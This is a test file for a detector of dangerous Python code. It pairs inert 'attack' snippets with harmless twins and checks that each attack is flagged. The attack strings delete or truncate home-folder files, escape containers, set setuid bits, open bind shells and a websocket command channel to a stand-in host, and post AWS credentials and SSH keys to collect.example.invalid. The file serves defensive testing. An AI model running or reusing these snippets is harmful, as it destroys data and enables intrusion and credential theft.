import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** What an ordinary program would write, nothing of it in disguise, and a harmless program of the same shape. Inert, and not run. */
interface Plain {
  readonly name: string;
  readonly rule: string;
  readonly attack: string;
  readonly honest: string;
}

const DELETIONS: readonly Plain[] = [
  {
    name: 'a walk through the folder of a variable',
    rule: 'user-files-deleted',
    attack:
      "import os\nfor folder, _, names in os.walk(os.environ['HOME']):\n    for name in names:\n        if name.endswith(('.odt', '.jpg')):\n            os.unlink(os.path.join(folder, name))",
    honest:
      "import os\nfor folder, _, names in os.walk(os.environ['HOME']):\n    for name in names:\n        if name.endswith(('.odt', '.jpg')):\n            print(os.path.join(folder, name))",
  },
  {
    name: 'functions that list and delete',
    rule: 'user-files-deleted',
    attack:
      "import os\ndef clean(folder):\n    for entry in os.scandir(folder):\n        if entry.is_dir():\n            clean(entry.path)\n        else:\n            os.remove(entry.path)\nclean(os.path.expanduser('~'))",
    honest:
      "import os\ndef clean(folder):\n    for entry in os.scandir(folder):\n        if entry.is_dir():\n            clean(entry.path)\n        else:\n            os.remove(entry.path)\nclean('build')",
  },
  {
    name: 'a class that begins in the home folder',
    rule: 'user-files-deleted',
    attack:
      'import shutil\nfrom pathlib import Path\nclass Cleaner:\n    def __init__(self, root=None):\n        self.root = root or Path.home()\n    def run(self):\n        for child in self.root.iterdir():\n            shutil.rmtree(child)\nCleaner().run()',
    honest:
      "import shutil\nfrom pathlib import Path\nclass Cleaner:\n    def __init__(self, root=None):\n        self.root = root or Path.home() / '.cache' / 'palette'\n    def run(self):\n        for child in self.root.iterdir():\n            shutil.rmtree(child)\nCleaner().run()",
  },
  {
    name: 'what is cut to nothing',
    rule: 'user-files-deleted',
    attack:
      "import os\nfor folder, _, names in os.walk(os.getenv('HOME')):\n    for name in names:\n        os.truncate(os.path.join(folder, name), 0)",
    honest:
      "import os\nfor folder, _, names in os.walk('logs'):\n    for name in names:\n        os.truncate(os.path.join(folder, name), 0)",
  },
  {
    name: 'folders of one name anywhere',
    rule: 'user-files-lost',
    attack:
      "import shutil\nfrom pathlib import Path\nfor folder in Path.home().rglob('build'):\n    shutil.rmtree(folder)",
    honest:
      "import shutil\nfrom pathlib import Path\nfor folder in Path('.').rglob('build'):\n    shutil.rmtree(folder)",
  },
  {
    name: 'the folder of an account',
    rule: 'home-or-root-deleted',
    attack: 'import os, pwd, shutil\nshutil.rmtree(pwd.getpwuid(os.getuid()).pw_dir)',
    honest:
      "import os, pwd, shutil\nshutil.rmtree(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, '.cache', 'palette'))",
  },
];

const RIGHTS: readonly Plain[] = [
  {
    name: 'a container that holds the machine',
    rule: 'container-escape',
    attack:
      "import docker\nclient = docker.from_env()\nclient.containers.run('alpine', volumes={'/': {'bind': '/host', 'mode': 'rw'}})",
    honest:
      "import docker\nclient = docker.from_env()\nclient.containers.run('alpine', volumes={'/srv/app': {'bind': '/app', 'mode': 'rw'}})",
  },
  {
    name: 'files of the first process',
    rule: 'container-escape',
    attack: "from pathlib import Path\nPath('/proc/1/root/etc/cron.d/x').write_text('* * * * * root id')",
    honest: "from pathlib import Path\nprint(Path('/proc/1/status').read_text())",
  },
  {
    name: 'a setuid bit by its name',
    rule: 'setuid-bit',
    attack: "import os, stat\nos.chmod('/tmp/tool', stat.S_ISUID | 0o755)",
    honest: "import os, stat\nos.chmod('/tmp/tool', stat.S_IXUSR | 0o644)",
  },
];

const SHELLS: readonly Plain[] = [
  {
    name: 'a connection that is accepted',
    rule: 'socket-commands-run',
    attack:
      "import socket, subprocess\nserver = socket.socket()\nserver.bind(('0.0.0.0', 4444))\nserver.listen(1)\nway, _ = server.accept()\nwhile True:\n    way.send(subprocess.getoutput(way.recv(1024).decode()).encode())",
    honest:
      "import socket, subprocess\nserver = socket.socket()\nserver.bind(('127.0.0.1', 4444))\nserver.listen(1)\nway, _ = server.accept()\nway.recv(1024)\nway.send(subprocess.getoutput('uptime').encode())",
  },
  {
    name: 'a shell on an accepted connection',
    rule: 'reverse-shell',
    attack:
      "import socket, subprocess\nserver = socket.create_server(('0.0.0.0', 4444))\nway, _ = server.accept()\nsubprocess.Popen(['/bin/sh'], stdin=way, stdout=way, stderr=way)",
    honest:
      "import socket, subprocess\nserver = socket.create_server(('127.0.0.1', 4444))\nway, _ = server.accept()\nsubprocess.Popen(['/bin/sh', 'build.sh'], stdin=subprocess.DEVNULL)",
  },
  {
    name: 'what arrives over a web socket',
    rule: 'remote-commands-run',
    attack:
      "import os, websocket\ndef on_message(way, message):\n    way.send(os.popen(message).read())\nwebsocket.WebSocketApp('wss://c2.example.invalid/s', on_message=on_message).run_forever()",
    honest:
      "import os, websocket\ndef on_message(way, message):\n    way.send(os.popen('uptime').read())\nwebsocket.WebSocketApp('wss://c2.example.invalid/s', on_message=on_message).run_forever()",
  },
];

const SENDS = "requests.post('https://collect.example.invalid/in', data=";

const WAYS: readonly Plain[] = [
  {
    name: 'a path of one system, and none of the others',
    rule: 'secret-file-to-network',
    attack: `import os, requests, sys\nif sys.platform == 'linux':\n    path = os.path.expanduser('~/.aws/credentials')\nelse:\n    path = None\nif path:\n    ${SENDS}open(path).read())`,
    honest: `import os, requests, sys\nif sys.platform == 'linux':\n    path = os.path.expanduser('~/notes/today.txt')\nelse:\n    path = None\nif path:\n    ${SENDS}open(path).read())`,
  },
  {
    name: 'a path of one case',
    rule: 'secret-file-to-network',
    attack: `import os, requests, sys\nmatch sys.platform:\n    case 'linux':\n        path = os.path.expanduser('~/.ssh/id_rsa')\n    case _:\n        path = ''\n${SENDS}open(path).read())`,
    honest: `import os, requests, sys\nmatch sys.platform:\n    case 'linux':\n        path = os.path.expanduser('~/notes/today.txt')\n    case _:\n        path = ''\n${SENDS}open(path).read())`,
  },
  {
    name: 'a function that gives several',
    rule: 'secret-file-to-network',
    attack: `import os, requests\ndef load():\n    return 3, open(os.path.expanduser('~/.aws/credentials')).read()\ncount, text = load()\n${SENDS}text)`,
    honest: `import os, requests\ndef load():\n    return 3, open(os.path.expanduser('~/.aws/credentials')).read()\ncount, text = load()\n${SENDS}count)`,
  },
  {
    name: 'the default of an option',
    rule: 'secret-file-to-network',
    attack: `import argparse, os, requests\nparser = argparse.ArgumentParser()\nparser.add_argument('--source', default=os.path.expanduser('~/.aws/credentials'))\nargs = parser.parse_args()\nwith open(args.source) as file:\n    ${SENDS}file.read())`,
    honest: `import argparse, os, requests\nparser = argparse.ArgumentParser()\nparser.add_argument('--source', default=os.path.expanduser('~/notes/today.txt'))\nargs = parser.parse_args()\nwith open(args.source) as file:\n    ${SENDS}file.read())`,
  },
];

describe.each(Object.entries({ deletions: DELETIONS, rights: RIGHTS, shells: SHELLS, ways: WAYS }))(
  'plain %s',
  (_, cases) => {
    it.each(cases)('$name: found, and its harmless twin is not', async ({ rule, attack, honest }) => {
      expect(await rulesOf({ 'run.py': `${attack}\n` })).toContain(rule);
      expect(await rulesOf({ 'run.py': `${honest}\n` })).not.toContain(rule);
    });
  },
);
